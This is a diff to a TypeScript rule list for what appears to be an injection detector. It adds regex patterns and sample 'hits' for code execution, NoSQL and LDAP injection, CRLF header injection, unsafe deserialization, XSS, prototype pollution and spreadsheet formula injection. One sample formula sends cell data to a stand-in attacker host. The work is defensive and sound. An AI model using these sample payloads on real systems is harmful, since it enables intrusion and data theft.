@@ -10,8 +10,13 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'A value is a call that runs code.',
     pattern:
-      /^\s{0,8}(?:<\?php\b|<%=?\s|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?["'])/gi,
-    hits: ["eval('sleep 5')", '<?php system("id"); ?>'],
+      /^\s{0,8}(?:<\?php\b|<%=?\s|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?(?:["']|atob\(|base64|unescape\(|string\.fromcharcode)|__import__\(\s?["']|require\(\s?["']child_process)/gi,
+    hits: [
+      "__import__('os').system('id')",
+      "eval(atob('YWxlcnQ='))",
+      "eval('sleep 5')",
+      '<?php system("id"); ?>',
+    ],
     misses: ['evaluate (later)', 'import os; run()'],
   },
   {
@@ -42,8 +47,15 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A value is an operator of a document or directory query.',
     pattern:
-      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\(\|?\(?\w{1,30}=\*|\)\(\|\(\w{1,30}=/gi,
-    hits: ['{"$ne": null}', 'password[$ne]=1', '*)(uid=*))(|(uid=*'],
+      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|\)\(\|\(\w{1,30}=|\)\(!\(&\(|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:true|1|this)\b/gi,
+    hits: [
+      "'; return true; var x='",
+      '{"user": {"$ne": null}}',
+      '*)(&(objectClass=*)',
+      '{"$ne": null}',
+      'password[$ne]=1',
+      '*)(uid=*))(|(uid=*',
+    ],
     misses: ['{"ne": 1}', '(a)(b)', '$gt: greater than'],
   },
   {
@@ -53,8 +65,59 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A value ends and a header of its own begins.',
     pattern:
-      /(?:%0d%0a|%0a|\r\n|\\r\\n)\s?(?:set-cookie|location|content-(?:length|type)|bcc|x-[a-z-]{1,30})\s?:/gi,
-    hits: ['x%0d%0aSet-Cookie: a=b', 'a@acme.example\r\nBcc: eve@evil.example'],
+      /(?:%0d%0a|%0a|\r\n|\\r\\n)\s?(?:set-cookie|location|content-(?:length|type)|bcc|x-[a-z-]{1,30})\s?:|^[^\n]{1,80}\n\s?(?:bcc|set-cookie)\s?:/gi,
+    hits: [
+      'x%0d%0aSet-Cookie: a=b',
+      'a@acme.example\r\nBcc: eve@evil.example',
+      'a@acme.example\nBcc: eve@evil.example',
+    ],
     misses: ['Location: Berlin', 'content type: text'],
+  },
+  {
+    id: 'code.serialized_object',
+    category: 'code_injection',
+    severity: 'critical',
+    weight: 6,
+    message: 'An object that runs code when it is read back.',
+    pattern:
+      /^\s{0,4}(?:rO0AB[A-Za-z0-9+/]{4}|aced0005|AAEAAAD\/{4}|\(?c(?:os|posix|nt|subprocess|builtins|__builtin__)\n|gASV[A-Za-z0-9+/]{4}|[OC]:\d{1,4}:"[\w\\]{1,120}":\d{1,4}:\{)|!!(?:python\/(?:object|name|module)|javax?\.|com\.sun\.|org\.)|!ruby\/(?:object|hash)|"@type"\s{0,2}:\s{0,2}"(?:com\.sun|java\.|org\.apache)/g,
+    hits: [
+      'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+      'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
+      '!!python/object/apply:os.system ["id"]',
+    ],
+    misses: ['O: open, C: closed', '!!! important', 'cosmos\nsystem', 'rO0 is a code'],
+  },
+  {
+    id: 'code.active_markup',
+    category: 'code_injection',
+    severity: 'high',
+    weight: 4,
+    message: 'Markup that runs a probe when it is shown.',
+    pattern:
+      /<script\b[^>]{0,80}>\s{0,4}(?:alert|prompt|confirm|eval|document\.(?:cookie|location)|window\.location|fetch\s?\(\s?["'`](?:https?:)?\/\/)|<\w{1,12}\b[^<>]{0,200}?[\s/"']on[a-z]{3,20}\s{0,2}=\s{0,2}["']?\s{0,2}(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location|javascript:)|^\s{0,4}(?:javascript|vbscript):/gi,
+    hits: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)'],
+    misses: ['<p onclick="open()">more</p>', '<script src="/app.js"></script>', 'JavaScript: the good parts'],
+  },
+  {
+    id: 'code.prototype',
+    category: 'code_injection',
+    severity: 'high',
+    weight: 4,
+    message: 'A name of a member that reaches the prototype of every object.',
+    pattern: /["']__proto__["']\s{0,2}:|__proto__(?:\[|\.\w)|constructor(?:\[|\.)["']?prototype["']?[\].]/g,
+    hits: ['{"__proto__": {"isAdmin": true}}', 'constructor[prototype][admin]=1'],
+    misses: ['the prototype of the car', '{"proto": 1}', 'constructor(name)'],
+  },
+  {
+    id: 'code.formula',
+    category: 'code_injection',
+    severity: 'high',
+    weight: 4,
+    message: 'A cell of a spreadsheet that starts a program or fetches an address.',
+    pattern:
+      /^\s{0,2}[=+@-][^\n]{0,60}?(?:cmd|powershell|rundll32|mshta)\s{0,2}\|\s{0,2}'|^\s{0,2}[=+@-]\s{0,2}(?:dde|webservice|importxml|importdata|importfeed|importhtml)\s{0,2}\(/gi,
+    hits: ["=cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example/?x="&A1)'],
+    misses: ['=SUM(A1:A10)', '-5', '+49 30 123456', '@ann please look'],
   },
 ];
